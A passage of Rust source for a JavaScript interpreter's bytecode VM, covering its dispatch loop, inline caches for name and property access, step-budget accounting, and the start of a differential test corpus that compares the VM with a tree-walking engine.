    /// Discards a word, reclaiming its arena slot when it owns the top box
    /// (a buried box just waits for the activation-exit truncate).
    #[inline(always)]
    fn drop_word(&mut self, w: Word) {
        if !w.is_num() && w.tag() == TAG_BOXED && w.payload() as usize + 1 == self.vm_boxed.len() {
            self.vm_boxed.pop();
        }
    }

    /// JS truthiness straight off the word: inline for everything the word
    /// encodes itself; constants and boxed values defer to `Value::truthy`.
    #[inline(always)]
    fn word_truthy(&self, consts: &[Value], w: Word) -> bool {
        if w.is_num() {
            let n = w.as_num();
            return n != 0.0 && !n.is_nan();
        }
        match w.tag() {
            TAG_OBJ => true,
            TAG_CONST => consts[w.payload() as usize].truthy(),
            TAG_BOXED => self.vm_boxed[w.payload() as usize].truthy(),
            _ => w == Word::TRUE,
        }
    }

    /// `ToNumber` for the word shapes that need no heap access: inline
    /// numbers and the payload-free singletons. `None` means the caller
    /// must materialize the value (strings, objects).
    #[inline(always)]
    fn word_to_number(w: Word) -> Option<f64> {
        if w.is_num() {
            return Some(w.as_num());
        }
        match w {
            Word::UNDEF => Some(f64::NAN),
            Word::NULL | Word::FALSE => Some(0.0),
            Word::TRUE => Some(1.0),
            _ => None,
        }
    }

    /// Executes `chunk` in `env`. `Ok(None)` means the body ran to
    /// completion; `Ok(Some(v))` means an explicit `return` (from `Ret` or
    /// a return signal surfacing out of a tree-walked subtree) produced `v`.
    pub(crate) fn run_chunk(
        &mut self,
        chunk: &Arc<Chunk>,
        env: usize,
    ) -> Result<Option<Value>, Flow> {
        let (consts, words, ics) = self.chunk_state(chunk);
        // Operand stacks are pooled across activations, and the boxed
        // arena is truncated back to this activation's watermark on exit
        // (the result/throw value is decoded to an owned `Value` first, so
        // it never points into the reclaimed tail).
        let mark = self.vm_boxed.len();
        let mut stack = self
            .vm_stacks
            .pop()
            .unwrap_or_else(|| Vec::with_capacity(16));
        let result = self.run_ops(chunk, env, &consts, &words, &ics, &mut stack);
        stack.clear();
        self.vm_stacks.push(stack);
        self.vm_boxed.truncate(mark);
        result
    }

    /// The dispatch loop proper, over the chunk's pooled frame state.
    fn run_ops(
        &mut self,
        chunk: &Arc<Chunk>,
        env: usize,
        consts: &[Value],
        words: &[Word],
        ics: &[Cell<Ic>],
        stack: &mut Vec<Word>,
    ) -> Result<Option<Value>, Flow> {
        let mut ip = 0usize;
        // Dispatch counting stays in a register for the whole activation;
        // the interpreter-wide counter is settled once on exit.
        let mut dispatched: u64 = 0;
        let result = loop {
            // One bounds check serves as both the fetch and the
            // fell-off-the-end exit.
            let Some(&op) = chunk.ops.get(ip) else {
                break Ok(None);
            };
            dispatched += 1;
            let at = ip as u32;
            ip += 1;
            // Every success path `continue`s (or `break`s) directly out of
            // its arm; only the error signal falls through, so the hot path
            // never materializes an intermediate control-transfer value.
            let err: Flow = match op {
                Op::Charge(n) => match self.charge_steps(n) {
                    Ok(()) => continue,
                    Err(e) => e,
                },
                Op::Const(i) => {
                    stack.push(words[i as usize]);
                    continue;
                }
                Op::True => {
                    stack.push(Word::TRUE);
                    continue;
                }
                Op::False => {
                    stack.push(Word::FALSE);
                    continue;
                }
                Op::Null => {
                    stack.push(Word::NULL);
                    continue;
                }
                Op::Undef => {
                    stack.push(Word::UNDEF);
                    continue;
                }
                Op::This => {
                    let v = self.try_lookup("this", env).unwrap_or(Value::Undefined);
                    self.push_value(stack, v);
                    continue;
                }
                Op::Pop => {
                    let w = pop(stack);
                    self.drop_word(w);
                    continue;
                }
                Op::Dup => {
                    let w = *stack.last().expect("vm stack underflow");
                    // A boxed word must be RE-boxed: two words sharing one
                    // arena slot would let a later move dangle the other.
                    if !w.is_num() && w.tag() == TAG_BOXED {
                        let v = self.vm_boxed[w.payload() as usize].clone();
                        let dup = self.box_value(v);
                        stack.push(dup);
                    } else {
                        stack.push(w);
                    }
                    continue;
                }
                Op::Swap => {
                    let n = stack.len();
                    stack.swap(n - 1, n - 2);
                    continue;
                }
                Op::Jump { t, pre } => match self.charge_steps(pre) {
                    Ok(()) => {
                        ip = t as usize;
                        continue;
                    }
                    Err(e) => e,
                },
                Op::JumpIfFalse { t, pre } => match self.charge_steps(pre) {
                    Ok(()) => {
                        let w = pop(stack);
                        let truthy = self.word_truthy(consts, w);
                        self.drop_word(w);
                        if !truthy {
                            ip = t as usize;
                        }
                        continue;
                    }
                    Err(e) => e,
                },
                Op::JumpIfTrue { t, pre } => match self.charge_steps(pre) {
                    Ok(()) => {
                        let w = pop(stack);
                        let truthy = self.word_truthy(consts, w);
                        self.drop_word(w);
                        if truthy {
                            ip = t as usize;
                        }
                        continue;
                    }
                    Err(e) => e,
                },
                Op::JumpTruthyKeep { t, pre } => match self.charge_steps(pre) {
                    Ok(()) => {
                        let w = *stack.last().expect("vm stack underflow");
                        if self.word_truthy(consts, w) {
                            ip = t as usize;
                        } else {
                            pop(stack);
                            self.drop_word(w);
                        }
                        continue;
                    }
                    Err(e) => e,
                },
                Op::JumpFalsyKeep { t, pre } => match self.charge_steps(pre) {
                    Ok(()) => {
                        let w = *stack.last().expect("vm stack underflow");
                        if self.word_truthy(consts, w) {
                            pop(stack);
                            self.drop_word(w);
                        } else {
                            ip = t as usize;
                        }
                        continue;
                    }
                    Err(e) => e,
                },
                Op::LoadLocal {
                    depth,
                    slot,
                    name,
                    pre,
                } => match self.charge_steps(pre).and_then(|()| {
                    if depth == 0 {
                        match self.envs[env].slots.get(slot as usize) {
                            Some(Some(v)) => Ok(v.clone()),
                            _ => self.read_local(&chunk.names[name as usize], 0, slot, env),
                        }
                    } else {
                        self.read_local(&chunk.names[name as usize], depth, slot, env)
                    }
                }) {
                    Ok(v) => {
                        self.push_value(stack, v);
                        continue;
                    }
                    Err(e) => e,
                },
                Op::StoreLocal {
                    depth,
                    slot,
                    name,
                    pre,
                } => match self.charge_steps(pre) {
                    Ok(()) => {
                        let w = pop(stack);
                        let v = self.take_value(consts, w);
                        self.assign_local(&chunk.names[name as usize], depth, slot, v, env);
                        continue;
                    }
                    Err(e) => e,
                },
                Op::LoadName { name, ic, pre } => match self
                    .charge_steps(pre)
                    .and_then(|()| self.vm_load_name(chunk, ics, name, ic, env))
                {
                    Ok(w) => {
                        stack.push(w);
                        continue;
                    }
                    Err(e) => e,
                },
                Op::StoreName { name, ic, pre } => match self.charge_steps(pre) {
                    Ok(()) => {
                        let w = pop(stack);
                        let v = self.take_value(consts, w);
                        self.vm_store_name(chunk, ics, name, ic, v, env);
                        continue;
                    }
                    Err(e) => e,
                },
                Op::GetPropName {
                    name,
                    name_ic,
                    prop,
                    prop_ic,
                    pre,
                } => match self.charge_steps(pre).and_then(|()| {
                    let ow = self.vm_load_name(chunk, ics, name, name_ic, env)?;
                    if !ow.is_num() && ow.tag() == TAG_OBJ {
                        self.vm_obj_read(
                            ics,
                            ObjId(ow.payload() as usize),
                            &chunk.names[prop as usize],
                            prop_ic,
                        )
                    } else {
                        let obj = self.take_value(consts, ow);
                        let v = self.get_property(&obj, &chunk.names[prop as usize])?;
                        Ok(self.value_word(v))
                    }
                }) {
                    Ok(w) => {
                        stack.push(w);
                        continue;
                    }
                    Err(e) => e,
                },
                Op::SetPropName {
                    name,
                    name_ic,
                    prop,
                    prop_ic,
                    pre,
                } => match self.charge_steps(pre).and_then(|()| {
                    let ow = self.vm_load_name(chunk, ics, name, name_ic, env)?;
                    let w = pop(stack);
                    let value = self.take_value(consts, w);
                    if !ow.is_num() && ow.tag() == TAG_OBJ {
                        self.vm_obj_write(
                            ics,
                            ObjId(ow.payload() as usize),
                            &chunk.names[prop as usize],
                            prop_ic,
                            value,
                        )
                    } else {
                        let obj = self.take_value(consts, ow);
                        self.set_property(&obj, &chunk.names[prop as usize], value)
                    }
                }) {
                    Ok(()) => continue,
                    Err(e) => e,
                },
                Op::IncName {
                    name,
                    load_ic,
                    store_ic,
                    delta,
                    pre,
                } => match self.charge_steps(pre).and_then(|()| {
                    let w = self.vm_load_name(chunk, ics, name, load_ic, env)?;
                    let old = match Self::word_to_number(w) {
                        Some(n) => n,
                        None => self.take_value(consts, w).to_number(),
                    };
                    let new = Value::Num(old + f64::from(delta));
                    self.vm_store_name(chunk, ics, name, store_ic, new, env);
                    Ok(())
                }) {
                    Ok(()) => continue,
                    Err(e) => e,
                },
                Op::DeclSlot(i) => {
                    let w = pop(stack);
                    let v = self.take_value(consts, w);
                    self.envs[env].slots[i as usize] = Some(v);
                    continue;
                }
                Op::DeclName(i) => {
                    let w = pop(stack);
                    let v = self.take_value(consts, w);
                    self.declare(env, &chunk.names[i as usize].clone(), v);
                    continue;
                }
                Op::DeclFn(i) => {
                    let def = chunk.fns[i as usize].clone();
                    let name = def.name.clone().expect("declaration has a name");
                    // A new closure capturing `env` is being born: bump the
                    // capture stamp so frame recycling knows this call tree
                    // let an environment escape.
                    self.capture_stamp += 1;
                    self.declare(env, &name, Value::Fn { def, env });
                    continue;
                }
                Op::Closure(i) => {
                    self.capture_stamp += 1;
                    let f = Value::Fn {
                        def: chunk.fns[i as usize].clone(),
                        env,
                    };
                    self.push_value(stack, f);
                    continue;
                }
                Op::GetProp { name, ic, pre } => match self.charge_steps(pre).and_then(|()| {
                    let w = pop(stack);
                    if !w.is_num() && w.tag() == TAG_OBJ {
                        self.vm_obj_read(
                            ics,
                            ObjId(w.payload() as usize),
                            &chunk.names[name as usize],
                            ic,
                        )
                    } else {
                        let obj = self.take_value(consts, w);
                        let v = self.get_property(&obj, &chunk.names[name as usize])?;
                        Ok(self.value_word(v))
                    }
                }) {
                    Ok(w) => {
                        stack.push(w);
                        continue;
                    }
                    Err(e) => e,
                },
                Op::SetProp { name, ic, pre } => match self.charge_steps(pre).and_then(|()| {
                    let ow = pop(stack);
                    let vw = pop(stack);
                    let value = self.take_value(consts, vw);
                    if !ow.is_num() && ow.tag() == TAG_OBJ {
                        self.vm_obj_write(
                            ics,
                            ObjId(ow.payload() as usize),
                            &chunk.names[name as usize],
                            ic,
                            value,
                        )
                    } else {
                        let obj = self.take_value(consts, ow);
                        self.set_property(&obj, &chunk.names[name as usize], value)
                    }
                }) {
                    Ok(()) => continue,
                    Err(e) => e,
                },
                Op::GetIndex { pre } => match self.charge_steps(pre).and_then(|()| {
                    let iw = pop(stack);
                    let ow = pop(stack);
                    let idx = self.take_value(consts, iw);
                    let obj = self.take_value(consts, ow);
                    let key = self.value_to_key(&idx);
                    self.get_property(&obj, &key)
                }) {
                    Ok(v) => {
                        self.push_value(stack, v);
                        continue;
                    }
                    Err(e) => e,
                },
                Op::SetIndex { pre } => match self.charge_steps(pre).and_then(|()| {
                    let iw = pop(stack);
                    let ow = pop(stack);
                    let vw = pop(stack);
                    let idx = self.take_value(consts, iw);
                    let obj = self.take_value(consts, ow);
                    let value = self.take_value(consts, vw);
                    let key = self.value_to_key(&idx);
                    self.set_property(&obj, &key, value)
                }) {
                    Ok(()) => continue,
                    Err(e) => e,
                },
                Op::MakeArray(n) => {
                    let n = n as usize;
                    let ws = stack.split_off(stack.len() - n);
                    // Decode right-to-left so each boxed element is at the
                    // arena top when consumed (moves, not clones).
                    let mut elements = vec![Value::Undefined; n];
                    for i in (0..n).rev() {
                        elements[i] = self.take_value(consts, ws[i]);
                    }
                    let id = self.heap.alloc_array(elements);
                    stack.push(Word::obj(id));
                    continue;
                }
                Op::MakeObject => {
                    let id = self.heap.alloc_object();
                    stack.push(Word::obj(id));
                    continue;
                }
                Op::ObjInsert(i) => {
                    let w = pop(stack);
                    let v = self.take_value(consts, w);
                    let id = match stack.last() {
                        Some(w) if !w.is_num() && w.tag() == TAG_OBJ => ObjId(w.payload() as usize),
                        _ => unreachable!("ObjInsert targets the literal under construction"),
                    };
                    let props = &mut self.heap.get_mut(id).props;
                    let before = props.len() as u32;
                    let idx = props.insert_full(&*chunk.names[i as usize], v);
                    if idx == before {
                        self.shape_transitions += 1;
                    }
                    continue;
                }
                Op::GetMethod { name, ic, pre } => match self.charge_steps(pre).and_then(|()| {
                    // The receiver word stays on the stack (it still owns
                    // its box, if any); only the method value is pushed.
                    let w = *stack.last().expect("vm stack underflow");
                    if !w.is_num() && w.tag() == TAG_OBJ {
                        self.vm_obj_read(
                            ics,
                            ObjId(w.payload() as usize),
                            &chunk.names[name as usize],
                            ic,
                        )
                    } else {
                        let obj = self.peek_value(consts, w);
                        let v = self.get_property(&obj, &chunk.names[name as usize])?;
                        Ok(self.value_word(v))
                    }
                }) {
                    Ok(fw) => {
                        stack.push(fw);
                        continue;
                    }
                    Err(e) => e,
                },
                Op::GetMethodIndex { pre } => match self.charge_steps(pre).and_then(|()| {
                    let iw = pop(stack);
                    let idx = self.take_value(consts, iw);
                    let w = *stack.last().expect("vm stack underflow");
                    let obj = self.peek_value(consts, w);
                    let key = self.value_to_key(&idx);
                    self.get_property(&obj, &key)
                }) {
                    Ok(f) => {
                        self.push_value(stack, f);
                        continue;
                    }
                    Err(e) => e,
                },
                Op::Call { argc, pre } => match self
                    .charge_steps(pre)
                    .and_then(|()| self.vm_call(stack, consts, argc, env))
                {
                    Ok(()) => continue,
                    Err(e) => e,
                },
                Op::CallMethod { argc, pre } => match self
                    .charge_steps(pre)
                    .and_then(|()| self.vm_call_method(stack, consts, argc, env))
                {
                    Ok(()) => continue,
                    Err(e) => e,
                },
                Op::Bin(op) => {
                    let r = pop(stack);
                    let l = pop(stack);
                    if l.is_num() && r.is_num() {
                        if let Some(w) = num_binop(op, l.as_num(), r.as_num()) {
                            stack.push(w);
                            continue;
                        }
                    }
                    let rv = self.take_value(consts, r);
                    let lv = self.take_value(consts, l);
                    match self.binop(op, lv, rv) {
                        Ok(v) => {
                            self.push_value(stack, v);
                            continue;
                        }
                        Err(e) => e,
                    }
                }
                Op::BinConst { op, idx } => {
                    let l = pop(stack);
                    let rw = words[idx as usize];
                    if l.is_num() && rw.is_num() {
                        if let Some(w) = num_binop(op, l.as_num(), rw.as_num()) {
                            stack.push(w);
                            continue;
                        }
                    }
                    let lv = self.take_value(consts, l);
                    match self.binop(op, lv, consts[idx as usize].clone()) {
                        Ok(v) => {
                            self.push_value(stack, v);
                            continue;
                        }
                        Err(e) => e,
                    }
                }
                Op::UnNeg => {
                    let w = pop(stack);
                    let n = match Self::word_to_number(w) {
                        Some(n) => n,
                        None => self.take_value(consts, w).to_number(),
                    };
                    stack.push(Word::num(-n));
                    continue;
                }
                Op::UnPos => {
                    let w = pop(stack);
                    let n = match Self::word_to_number(w) {
                        Some(n) => n,
                        None => self.take_value(consts, w).to_number(),
                    };
                    stack.push(Word::num(n));
                    continue;
                }
                Op::UnNot => {
                    let w = pop(stack);
                    let truthy = self.word_truthy(consts, w);
                    self.drop_word(w);
                    stack.push(Word::bool(!truthy));
                    continue;
                }
                Op::UnBitNot => {
                    let w = pop(stack);
                    let n = match Self::word_to_number(w) {
                        Some(n) => n,
                        None => self.take_value(consts, w).to_number(),
                    };
                    stack.push(Word::num(!(to_i32(n)) as f64));
                    continue;
                }
                Op::TypeofVal => {
                    let w = pop(stack);
                    let v = self.take_value(consts, w);
                    let t = Value::str(v.type_of());
                    self.push_value(stack, t);
                    continue;
                }
                Op::TypeofName(i) => match self.try_lookup(&chunk.names[i as usize], env) {
                    None => {
                        let v = Value::str("undefined");
                        self.push_value(stack, v);
                        continue;
                    }
                    Some(v) => {
                        if self.steps_left == 0 {
                            Flow::Fatal(ScriptError::BudgetExhausted)
                        } else {
                            self.steps_left -= 1;
                            let t = Value::str(v.type_of());
                            self.push_value(stack, t);
                            continue;
                        }
                    }
                },
                Op::IncDec { delta, prefix } => {
                    let w = pop(stack);
                    let old = match Self::word_to_number(w) {
                        Some(n) => n,
                        None => self.take_value(consts, w).to_number(),
                    };
                    let new = old + f64::from(delta);
                    stack.push(Word::num(if prefix { new } else { old }));
                    stack.push(Word::num(new));
                    continue;
                }
                Op::Ret { pre } => match self.charge_steps(pre) {
                    Ok(()) => {
                        let w = pop(stack);
                        break Ok(Some(self.take_value(consts, w)));
                    }
                    Err(e) => e,
                },
                Op::ThrowOp => {
                    let w = pop(stack);
                    Flow::Throw(self.take_value(consts, w))
                }
                Op::FlowBreak => Flow::Break,
                Op::FlowContinue => Flow::Continue,
                Op::TreeStmt(i) => match self.exec(&chunk.tree_stmts[i as usize], env) {
                    Ok(()) => continue,
                    Err(e) => e,
                },
                Op::TreeExpr(i) => match self.eval(&chunk.tree_exprs[i as usize], env) {
                    Ok(v) => {
                        self.push_value(stack, v);
                        continue;
                    }
                    Err(e) => e,
                },
            };
            match err {
                // A break/continue surfacing here (from a compiled flow op,
                // out of a call, or out of a tree-walked subtree) lands at
                // the innermost enclosing compiled loop, exactly like the
                // tree-walk's loop arms catch it. Leftover expression
                // operands on the stack are dead weight, never misread:
                // every op addresses the stack relative to its top (their
                // arena boxes, if any, wait for the activation truncate).
                Flow::Break => match chunk.loop_at(at) {
                    Some(range) => ip = range.brk as usize,
                    None => break Err(Flow::Break),
                },
                Flow::Continue => match chunk.loop_at(at) {
                    Some(range) => ip = range.cont as usize,
                    None => break Err(Flow::Continue),
                },
                // A return signal ends the chunk with a value — `run_body`
                // and `call_function` catch it the same way in the oracle.
                Flow::Return(v) => break Ok(Some(v)),
                other => break Err(other),
            }
        };
        self.dispatches += dispatched;
        result
    }

    /// Deducts `n` steps from the budget; on exhaustion the budget pins to
    /// zero and the run fails, exactly like the `n`-th sequential
    /// tree-walk `step()` would. `n == 0` (no folded charge) is a no-op.
    #[inline(always)]
    fn charge_steps(&mut self, n: u32) -> Result<(), Flow> {
        // Most ops carry a zero `pre` (their cost was folded into a block
        // leader); skip the budget load/store entirely for them.
        if n == 0 {
            return Ok(());
        }
        let n = u64::from(n);
        if self.steps_left >= n {
            self.steps_left -= n;
            Ok(())
        } else {
            self.steps_left = 0;
            Err(Flow::Fatal(ScriptError::BudgetExhausted))
        }
    }

    /// Identifier resolution with the global inline cache: the fast path of
    /// `LoadName` shared by the fused name+property ops. Returns the value
    /// already word-encoded — a cache hit on an inline-encodable value
    /// (number, bool, object handle, singleton) never constructs a `Value`.
    #[inline(always)]
    fn vm_load_name(
        &mut self,
        chunk: &Chunk,
        ics: &[Cell<Ic>],
        name: u32,
        ic: u32,
        env: usize,
    ) -> Result<Word, Flow> {
        if ic != NO_IC {
            if let Ic::Global(idx) = ics[ic as usize].get() {
                self.ic_hits += 1;
                let v = self.envs[0].extra.entry_at(idx).1;
                return Ok(match Self::word_from_ref(v) {
                    Some(w) => w,
                    None => {
                        let owned = v.clone();
                        self.box_value(owned)
                    }
                });
            }
            self.ic_misses += 1;
            let key: &str = &chunk.names[name as usize];
            return match self.envs[0].extra.get_full(key) {
                Some((idx, v)) => {
                    ics[ic as usize].set(Ic::Global(idx));
                    match Self::word_from_ref(v) {
                        Some(w) => Ok(w),
                        None => {
                            let owned = v.clone();
                            Ok(self.box_value(owned))
                        }
                    }
                }
                None => Err(Flow::Throw(Value::str(format!("{key} is not defined")))),
            };
        }
        let v = self.lookup(&chunk.names[name as usize], env)?;
        Ok(self.value_word(v))
    }

    /// Identifier assignment with the global inline cache: the fast path of
    /// `StoreName` shared by the fused ops. Infallible, like the
    /// tree-walk's non-strict assignment.
    #[inline(always)]
    fn vm_store_name(
        &mut self,
        chunk: &Chunk,
        ics: &[Cell<Ic>],
        name: u32,
        ic: u32,
        v: Value,
        env: usize,
    ) {
        if ic != NO_IC {
            if let Ic::Global(idx) = ics[ic as usize].get() {
                self.ic_hits += 1;
                self.envs[0].extra.set_at(idx, v);
            } else {
                self.ic_misses += 1;
                let idx = self.envs[0]
                    .extra
                    .insert_full(&chunk.names[name as usize], v);
                ics[ic as usize].set(Ic::Global(idx));
            }
        } else {
            self.assign_by_name(&chunk.names[name as usize], v, env);
        }
    }

    /// Property read on a known heap object, with the shape inline cache.
    /// Cacheable shape: plain object, present property. A hit requires
    /// only that the receiver's current shape matches — any object built
    /// by the same key-insertion sequence is served by the same cache.
    /// Everything else falls back to the tree-walk's `get_property`. The
    /// result comes back word-encoded: a shape hit on an inline-encodable
    /// property is a bare slot load, no `Value` in sight.
    #[inline(always)]
    fn vm_obj_read(
        &mut self,
        ics: &[Cell<Ic>],
        id: ObjId,
        key: &str,
        ic: u32,
    ) -> Result<Word, Flow> {
        if ic != NO_IC {
            let data = self.heap.get(id);
            if matches!(data.kind, ObjKind::Plain) {
                if let Ic::PropShape { shape, idx } = ics[ic as usize].get() {
                    if data.props.shape() == shape {
                        self.ic_hits += 1;
                        self.shape_hits += 1;
                        let v = data.props.entry_at(idx).1;
                        return Ok(match Self::word_from_ref(v) {
                            Some(w) => w,
                            None => {
                                let owned = v.clone();
                                self.box_value(owned)
                            }
                        });
                    }
                }
                self.ic_misses += 1;
                return Ok(match data.props.get_full(key) {
                    Some((idx, v)) => {
                        let shape = data.props.shape();
                        ics[ic as usize].set(Ic::PropShape { shape, idx });
                        match Self::word_from_ref(v) {
                            Some(w) => w,
                            None => {
                                let owned = v.clone();
                                self.box_value(owned)
                            }
                        }
                    }
                    // Missing properties are never cached: a later
                    // insert would change the answer under the cache.
                    None => Word::UNDEF,
                });
            }
        }
        let v = self.get_property(&Value::Obj(id), key)?;
        Ok(self.value_word(v))
    }

    /// Property write on a known heap object, with the shape inline cache.
    /// A `PropShape` hit overwrites in place; a `PropAdd` hit *appends* —
    /// the matching `from` shape proves the key absent, so the write takes
    /// the pre-interned transition without probing the map at all.
    #[inline(always)]
    fn vm_obj_write(
        &mut self,
        ics: &[Cell<Ic>],
        id: ObjId,
        key: &str,
        ic: u32,
        value: Value,
    ) -> Result<(), Flow> {
        if ic != NO_IC {
            // One heap indexing for the whole cacheable path: kind check,
            // shape checks, and the mutation all run off this borrow.
            let data = self.heap.get_mut(id);
            if matches!(data.kind, ObjKind::Plain) {
                match ics[ic as usize].get() {
                    Ic::PropShape { shape, idx } if data.props.shape() == shape => {
                        data.props.set_at(idx, value);
                        self.ic_hits += 1;
                        self.shape_hits += 1;
                        return Ok(());
                    }
                    Ic::PropAdd { from, to } if data.props.shape() == from => {
                        data.props.append_known(shape_key(to), value, to);
                        self.ic_hits += 1;
                        self.shape_hits += 1;
                        self.shape_transitions += 1;
                        return Ok(());
                    }
                    _ => {}
                }
                let from = data.props.shape();
                let before = data.props.len() as u32;
                let idx = data.props.insert_full(key, value);
                let shape = data.props.shape();
                self.ic_misses += 1;
                if idx == before {
                    // First write of this key to this layout: cache the
                    // transition so the next same-shaped receiver appends
                    // without a probe.
                    self.shape_transitions += 1;
                    ics[ic as usize].set(Ic::PropAdd { from, to: shape });
                } else {
                    ics[ic as usize].set(Ic::PropShape { shape, idx });
                }
                return Ok(());
            }
        }
        self.set_property(&Value::Obj(id), key, value)
    }

    /// `Call(n)`: pops `n` arguments and the callee; pushes the result.
    fn vm_call(
        &mut self,
        stack: &mut Vec<Word>,
        consts: &[Value],
        argc: u32,
        env: usize,
    ) -> Result<(), Flow> {
        let argc = argc as usize;
        let ws = stack.split_off(stack.len() - argc);
        let fw = pop(stack);
        // Decode args right-to-left (LIFO over the boxed arena), then the
        // callee, which was pushed — and boxed — before them.
        let mut args = vec![Value::Undefined; argc];
        for i in (0..argc).rev() {
            args[i] = self.take_value(consts, ws[i]);
        }
        let f = self.take_value(consts, fw);
        let v = self.vm_dispatch_call(f, None, args, env)?;
        self.push_value(stack, v);
        Ok(())
    }

    /// `CallMethod(n)`: pops `n` arguments, the callee, and the receiver.
    /// String/number receivers become the synthetic first argument the
    /// stdlib dispatcher expects — same shape the tree-walk builds.
    fn vm_call_method(
        &mut self,
        stack: &mut Vec<Word>,
        consts: &[Value],
        argc: u32,
        env: usize,
    ) -> Result<(), Flow> {
        let argc = argc as usize;
        let ws = stack.split_off(stack.len() - argc);
        let fw = pop(stack);
        let ow = pop(stack);
        let mut args = vec![Value::Undefined; argc];
        for i in (0..argc).rev() {
            args[i] = self.take_value(consts, ws[i]);
        }
        let f = self.take_value(consts, fw);
        let obj = self.take_value(consts, ow);
        let this = match &obj {
            Value::Obj(id) => Some(*id),
            _ => None,
        };
        match &obj {
            Value::Str(_) | Value::Num(_) => args.insert(0, obj),
            _ => {}
        }
        let v = self.vm_dispatch_call(f, this, args, env)?;
        self.push_value(stack, v);
        Ok(())
    }

    /// The call tail shared by `Call`/`CallMethod`: direct-`eval` detection
    /// (after argument evaluation, exactly like `eval_call`), then the
    /// tree-walk's `call_function`.
    fn vm_dispatch_call(
        &mut self,
        f: Value,
        this: Option<crate::value::ObjId>,
        args: Vec<Value>,
        env: usize,
    ) -> Result<Value, Flow> {
        if let Value::Native(sym) = &f {
            if *sym == stdlib::eval_sym() {
                let src = match args.first() {
                    Some(Value::Str(s)) => s.to_string(),
                    Some(other) => return Ok(other.clone()),
                    None => return Ok(Value::Undefined),
                };
                return self.eval_in_env(&src, env);
            }
        }
        self.call_function(f, this, args)
    }
}

#[cfg(test)]
mod tests {
    use crate::interp::{Interpreter, Limits, NoHost};
    use crate::value::Value;
    use crate::ScriptEngine;

    /// Runs `src` on one engine and captures every cross-engine observable:
    /// the run result (display string or error string), the `out` global,
    /// the remaining step budget, and the eval trace.
    fn observe(
        src: &str,
        engine: ScriptEngine,
        limits: Limits,
    ) -> (Result<String, String>, String, u64, Vec<String>) {
        let mut i = Interpreter::new(NoHost, limits, 7);
        i.set_engine(engine);
        let result = match i.run(src) {
            Ok(v) => Ok(i.display_value(&v)),
            Err(e) => Err(e.to_string()),
        };
        let out = i.get_global("out").cloned().unwrap_or(Value::Undefined);
        let out = i.display_value(&out);
        (result, out, i.steps_left(), i.eval_trace.clone())
    }

    fn differential_with(src: &str, limits: Limits) {
        let a = observe(src, ScriptEngine::TreeWalk, limits);
        let b = observe(src, ScriptEngine::Vm, limits);
        assert_eq!(a, b, "engines diverge on: {src}");
    }

    fn differential(src: &str) {
        differential_with(src, Limits::default());
    }

    #[test]
    fn engines_agree_on_a_broad_corpus() {
        let corpus = [
            "out = 1 + 2 * 3 - 4 / 2;",
            "out = 'a' + 1 + 2; out += '' + (1 + 2 + 'x');",
            "var a = 1; function f() { return a + 1; } out = f();",
            "function counter() { var n = 0; return function() { n = n + 1; return n; }; } \
             var c = counter(); c(); c(); out = c();",
            "function f() { if (true) { var x = 5; } return x; } out = f();",
            "function f() { leak = 42; } f(); out = leak;",
            "var s = 0; for (var i = 1; i <= 10; i++) { s += i; } out = s;",
            "var n = 0; while (n < 5) { n++; } var m = 10; do { m--; } while (m > 7); out = n + ':' + m;",
            "var s = 0; for (var i = 0; i < 10; i++) { if (i == 5) break; if (i % 2 == 0) continue; s += i; } out = s;",
            "var a = [1, 2, 3]; a.push(4); a[7] = 'x'; out = a.join('-') + a.length + a.pop();",
            "var o = {x: 1, y: 'two', n: {m: 3}}; o.z = o.x + o.n.m; out = o.z + o.y;",
            "out = '' + (1 == '1') + (1 === '1') + (null == undefined) + (0 == false);",
            "out = typeof 5 + ':' + typeof missing + ':' + typeof {} + ':' + typeof function(){};",
            "out = (1 > 0 ? 'yes' : 'no') + (null || 'fb') + ('a' && 'b') + (0 && explode());",
            "var i = 5; var a = [3]; a[0]++; out = '' + i++ + ++i + a[0] + (++a[0]);",
            "var log = ''; try { try { throw 'x'; } finally { log += 'f'; } } catch (e) { log += 'c:' + e; } out = log;",
            "try { missing.prop = 1; } catch (e) { out = 'recovered'; }",
            "function fib(n) { return n < 2 ? n : fib(n - 1) + fib(n - 2); } out = fib(12);",
            "var x = 1; eval('x = x + 41;'); out = x;",
            "eval(\"eval('out = 1 + 1;');\");",
            "out = f(); function f() { return 'hoisted'; }",
            "var o = {v: 7, get: function() { return this.v; }}; out = o.get();",
            "function f() { return arguments.length + ':' + arguments[1]; } out = f('a', 'b', 'c');",
            "out = '' + (5 & 3) + (5 | 3) + (5 ^ 3) + (1 << 4) + (16 >> 2) + (~0) + (-5 >>> 28);",
            "var s = 'Hello World'; out = s.toUpperCase() + s.indexOf('World') + s.substring(0, 5) + 'x'.charCodeAt(0) + s[4];",
            "var log = ''; for (var i = 0; i < 4; i++) { switch (i % 2) { case 0: continue; case 1: log += i; break; } log += '.'; } out = log;",
            "var o = {b: 1, a: 2, c: 3}; var ks = ''; for (var k in o) { ks += k; } out = ks;",
            "function Point(x) { this.x = x; } var p = new Point(4); out = p.x;",
            "var a = (1, 2, 3); out = a;",
            "out = Math.floor(3.7) + Math.max(1, 9) + Math.pow(2, 5) + Math.abs(-2);",
            "out = parseInt('2a', 16) + parseInt('10') + Number('3.5') + parseFloat('1.25');",
            "out = '' + ('abc' < 'abd') + ('b' >= 'a') + (2 < 10) + ('10' < '9');",
            "var o = {n: 1}; o.n += 4; o['n'] *= 2; var g = 1; g -= 3; out = o.n + ':' + g;",
            "var o = {a: 1}; out = (void 0) + '' + (delete o.a) + o.a;",
            "var o = {k: 1}; var a = [1, 2]; out = '' + ('k' in o) + ('z' in o) + (1 in a);",
            "out = '' + (Math.random() >= 0) + (Math.random() < 1);",
            "var s = ''; var o = {x: 2}; with_default = typeof s; \
             function inc(v) { return v + o.x; } for (var i = 0; i < 3; i++) { s += inc(i); } out = s + with_default;",
            "out = unescape('%41%42') + escape('a b') + decodeURIComponent('%20').length + btoa('hi') + atob('aGk=');",
            "var n = 255; out = n.toString(16) + (3.14159).toFixed(2) + (7).toString();",
            // Fused superinstruction shapes: ident-receiver member compound
            // assigns, statement-form inc/dec, and constant-rhs operators.
            "var o = {v: 1}; o.v += 2; o.v *= 3; o.v -= 1; o.v /= 2; o.v %= 3; out = o.v;",
            "var o = {n: 5}; o.n++; ++o.n; o.n--; out = '' + o.n++ + --o.n + o.n;",
            "x = 1; x += 2; x++; ++x; x--; out = x;",
            "var x = 10; out = x % 7 + x * 2 - x / 5 + (x + 1) + ('' + x);",
            "var o = {a: {b: {c: 1}}}; o.a.b.c += 5; out = o.a.b.c++ + o.a.b.c;",
